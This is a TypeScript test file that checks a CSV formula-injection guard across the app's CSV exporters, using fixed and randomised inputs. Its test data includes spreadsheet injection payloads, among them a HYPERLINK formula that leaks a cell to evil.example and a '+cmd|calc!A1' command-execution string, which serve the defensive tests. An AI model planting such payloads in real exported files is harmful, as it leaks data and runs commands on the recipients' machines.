// The one CSV formula guard, and every CSV writer through it: no exported cell starts a formula once a spreadsheet
// has trimmed it, whatever the text (line breaks, leading blanks, full-width signs), and each importer reads the
// guarded cell back to the text as it was.
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { guardCell, startsLikeFormula, unguardCell } from '../../../../shared/csv/formula-guard';
import { writeCsv } from '../../../../shared/csv/csv-write';
import { exportCsv } from '../../../../shared/bulk/translator-csv';
import { csvText } from '../../../../shared/series-import/sheet-export';
import { exportText } from '../../../../renderer/screens/comments/comment-export';
import type { LibraryVideo } from '../../../../shared/library/library-video';
import type { CommentView } from '../../../../shared/comments/comment-view';

const LEAK = '=HYPERLINK("https://evil.example/?leak="&B2,"Click")';

/** The payloads of the finding and their cousins: each a formula to some spreadsheet. */
const PAYLOADS = [
  `${LEAK}\n`,
  `${LEAK}\r\nsecond line`,
  `=1+1\nmore`,
  '+cmd|calc!A1\n',
  '-2+3\n',
  '@SUM(A1)\nx',
  '\t=1\n',
  '\r=1\n',
  '＝HYPERLINK("https://evil.example")',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
  '   =1',
  ' \n=1',
  '\u3000＝1',
  '\u00a0+1',
  '\u200b=1',
  '\ufeff=1',
  LEAK,
];

/** What a spreadsheet does before deciding a cell is a formula: it trims blanks and folds full-width signs. */
function runsAsFormula(cell: string): boolean {
  if (/^[\t\r]/.test(cell)) return true;
  const trimmed = cell.replace(/^[\s\p{Cc}\p{Cf}]+/u, '');
  return /^[=+\-@\u2212]/.test(trimmed.normalize('NFKC'));
}

function cellsOf(csv: string): string[] {
  return Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ',' }).data.flat();
}

const comment = (text: string): CommentView => ({
  id: 'c1',
  authorName: text,
  text,
  publishedAt: '2026-01-01T00:00:00Z',
  likeCount: 2,
  mine: false,
});

const video = (text: string): LibraryVideo =>
  ({
    id: 'aaaaaaaaaa1',
    title: text,
    description: text,
    localizations: { de: { title: text, description: text } },
  }) as unknown as LibraryVideo;

/** Every CSV the app writes, each given one text in its cells. */
const WRITERS: Record<string, (text: string) => string> = {
  comments: (text) => exportText([comment(text)], 'csv'),
  translator: (text) => exportCsv([video(text)], ['de']),
  sheet: (text) => csvText(['title', 'description'], [[text, text]]),
  writeCsv: (text) => writeCsv({ fields: ['a'], data: [[text], { a: text }] }),
};

// Formula signs in every form, blanks a spreadsheet trims, quotes and delimiters, and plain text.
const risky = fc.constantFrom(...'=+-@\t\r\n \u3000\u00a0\u200b\ufeff＝＋－＠﹦﹢\u2212\'",a1('.split(''));
const hostileText = fc.oneof(fc.string({ unit: risky, maxLength: 12 }), fc.string({ maxLength: 12 }));

describe('the CSV formula guard', () => {
  it.each(PAYLOADS)('guards %j', (payload) => {
    expect(startsLikeFormula(payload)).toBe(true);
    expect(guardCell(payload)).toBe(`'${payload}`);
    expect(unguardCell(guardCell(payload))).toBe(payload);
  });

  it('leaves ordinary text alone, and guards a leading quote so the guard can be told from it', () => {
    for (const text of ['', 'Knots', ' a = b', 'x\n=1', '1-2', '(=)']) expect(guardCell(text)).toBe(text);
    expect(guardCell("'tis")).toBe("''tis");
    expect(unguardCell("''tis")).toBe("'tis");
    expect(unguardCell("'tis")).toBe("'tis");
  });

  it.each(Object.keys(WRITERS))('%s: every payload comes out as text', (writer) => {
    for (const payload of PAYLOADS) {
      const cells = cellsOf(WRITERS[writer]!(payload));
      expect(cells.filter(runsAsFormula), JSON.stringify(payload)).toEqual([]);
      expect(cells).toContain(`'${payload}`);
    }
  });

  it.each(Object.keys(WRITERS))('%s: no cell runs as a formula after trimming, whatever the text', (writer) => {
    fc.assert(
      fc.property(hostileText, (text) => {
        expect(cellsOf(WRITERS[writer]!(text)).filter(runsAsFormula)).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  it('reads every guarded text back as it was', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        expect(unguardCell(guardCell(text))).toBe(text);
      }),
      { numRuns: 500 },
    );
  });
});
